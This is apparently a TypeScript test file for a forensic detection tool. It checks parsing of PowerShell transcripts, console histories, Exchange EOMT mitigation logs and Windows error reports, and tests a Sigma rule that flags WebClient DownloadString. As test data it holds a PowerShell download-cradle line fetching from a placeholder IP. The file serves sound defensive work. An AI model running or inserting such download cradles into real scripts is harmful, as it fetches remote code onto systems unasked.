import assert from "node:assert/strict"
import {existsSync, readFileSync} from "node:fs"
import path from "node:path"
import {test} from "node:test"
import fc from "fast-check"
import {memorySource} from "../src/bytes/source.ts"
import {compileRules} from "../src/detect/match.ts"
import {Observer} from "../src/detect/observe.ts"
import {errorReport} from "../src/formats/error-report.ts"
import {type Format, wholeFile} from "../src/formats/format.ts"
import {mitigationLog} from "../src/formats/mitigation-log.ts"
import {powershellText} from "../src/formats/powershell-text.ts"
import type {Event} from "../src/model/event.ts"
import {evidenceId, fieldName} from "../src/model/ids.ts"
import type {Detection} from "../src/model/rule.ts"
import {parseRules} from "../src/rules/sigma/sigma.ts"

const shared = process.env["POSTERN_SHARED"] ?? path.join(import.meta.dirname, "../../shared")

async function read(format: Format, file: string, bytes: Uint8Array): Promise<readonly Event[]> {
  const events: Event[] = []
  const subject = {evidence: evidenceId(file), path: file, host: undefined}
  for await (const block of format.open(memorySource(bytes), wholeFile, subject))
    for (let i = 0; i < block.records; i++)
      block.decode(i, {event: (event) => events.push(event), trouble: () => undefined})
  return events
}

const lines = (...texts: readonly string[]): Uint8Array => Buffer.from([...texts, ""].join("\r\n"))
const value = (event: Event | undefined, name: string): unknown => event?.get(fieldName(name))

const frame = "*".repeat(22)
const head = [
  frame,
  "Windows PowerShell transcript start",
  "Start time: 20210304012347",
  "Username: CORP\\ada",
  "Machine: EX01 (Microsoft Windows NT 10.0)",
  "Host Application: powershell.exe",
  "Process ID: 1",
  frame,
]

const psScript = parseRules(
  `title: Download
id: 0b2c0c4e-3f0e-4a0e-9d6a-1f1d2f0c7a11
logsource: {product: windows, category: ps_script}
detection: {selection: {ScriptBlockText|contains|all: [WebClient, DownloadString]}, condition: selection}
`,
  "download.yml",
  {},
).rules.filter((rule): rule is Detection => rule.kind === "detection")

async function hits(file: string, bytes: Uint8Array): Promise<number> {
  const matcher = compileRules(psScript)
  let count = 0
  for (const event of await read(powershellText, file, bytes)) matcher.match(event, () => count++)
  return count
}

const download = "(New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')"

test("rules about script blocks hold for transcripts, histories and scripts", async () => {
  assert.equal(psScript.length, 1)
  assert.equal(await hits("t.txt", lines(...head, `PS C:\\> ${download}`, "x")), 1)
  assert.equal(await hits("ConsoleHost_history.txt", lines("dir", download)), 1)
  assert.equal(
    await hits("C:\\Temp\\x.ps1", lines("$c = New-Object Net.WebClient", "", "$c.DownloadString('x')")),
    1,
  )
  assert.equal(
    await hits("t.txt", lines(...head, "PS C:\\> type notes.txt", download)),
    0,
    "what was answered",
  )
})

test("a script counts as supplied only in the folders of Windows and Exchange and with a signature block", async () => {
  const place = "D:\\Exchange Server\\V15\\Scripts\\Made-Up.ps1"
  const signature = "# SIG # Begin signature block"
  assert.equal(await hits(place, lines(download, signature)), 0)
  assert.equal(await hits(place, lines(download)), 1)
  assert.equal(await hits("C:\\Temp\\Made-Up.ps1", lines(download, signature)), 1)
})

test("printed asterisks hide no command, and no printed frame moves the clock unless it is one", async () => {
  const commands = async (...texts: readonly string[]): Promise<readonly unknown[]> =>
    (await read(powershellText, "t.txt", lines(...head, ...texts)))
      .filter((event) => value(event, "Kind") === "command")
      .map((event) => value(event, "Command"))
  assert.deepEqual(await commands("PS C:\\> a", frame, "PS C:\\> b", "PS C:\\> c"), ["a", "b", "c"])
  assert.deepEqual(await commands("PS C:\\> a", frame, "text", frame, "PS C:\\> b"), ["a", "b"])
  assert.deepEqual(await commands("PS C:\\> a", ...Array.from({length: 200}, () => frame), "PS C:\\> b"), [
    "a",
    "b",
  ])
  const printed = await read(
    powershellText,
    "t.txt",
    lines(...head, "PS C:\\> a", frame, "text", frame, "PS C:\\> b"),
  )
  assert.deepEqual(new Set(printed.map((event) => event.when?.at)).size, 1)
})

test("a command is found whatever is printed around it", async () => {
  const printed = fc.array(fc.constantFrom(frame, "x", "", ">> y", "Start time: 20200101000000", "a: b"), {
    maxLength: 90,
  })
  await fc.assert(
    fc.asyncProperty(printed, printed, async (before, after) => {
      const events = await read(
        powershellText,
        "t.txt",
        lines(...head, ...before, "PS C:\\> needle", ...after),
      )
      assert.ok(events.some((event) => String(value(event, "Command")).startsWith("needle")))
    }),
    {numRuns: 200, seed: 20261122},
  )
})

test("a transcript in German is read by its form", async (t) => {
  const file = path.join(shared, "data/windows-artefacts-plaso/powershell_transcript_ger.txt")
  if (!existsSync(file)) return t.skip("shared data is absent")
  const events = await read(powershellText, "t.txt", readFileSync(file))
  const [first] = events
  assert.equal(value(first, "User"), "DE\\User")
  assert.equal(value(first, "Machine"), "MySystem")
  assert.match(String(value(first, "HostApplication")), /powershell\.exe$/)
  assert.ok(events.some((event) => value(event, "Command") === "ping 127.0.0.1 -n 5"))
})

test("a mitigation that EOMT applied is a setting, one that it began or took back is none", async () => {
  const observed = async (...texts: readonly string[]): Promise<readonly string[]> => {
    const observer = new Observer()
    const log = lines("2021-03-16 12:00:00 INFO: Starting EOMT.ps1 version 1", ...texts)
    for (const event of await read(mitigationLog, "EOMT.log", log)) observer.event(event)
    return observer.data().map((one) => (one.kind === "setting" ? `${one.setting}: ${one.value}` : one.kind))
  }
  assert.deepEqual(await observed("2021-03-16 12:00:30 INFO: Mitigation of CVE-2021-26855 is complete"), [
    "rewrite-rule: applied against CVE-2021-26855 by EOMT",
  ])
  assert.deepEqual(await observed("2021-03-16 12:00:30 INFO: Starting mitigation of CVE-2021-26855"), [])
  assert.deepEqual(await observed("2021-03-16 12:00:30 ERROR: Mitigation of CVE-2021-26855 failed"), [])
})

test("an error report tells program, module and code by place, whatever the language", async () => {
  const report = ["Version=1", "EventType=APPCRASH", "Sig[0].Name=Nom", "Sig[0].Value=w3wp.exe"]
  const [event] = await read(
    errorReport,
    "Report.wer",
    lines(...report, "Sig[3].Value=x.dll", "Sig[6].Value=c0000005"),
  )
  assert.equal(value(event, "Application"), "w3wp.exe")
  assert.equal(value(event, "Module"), "x.dll")
  assert.equal(value(event, "ExceptionCode"), "c0000005")
})
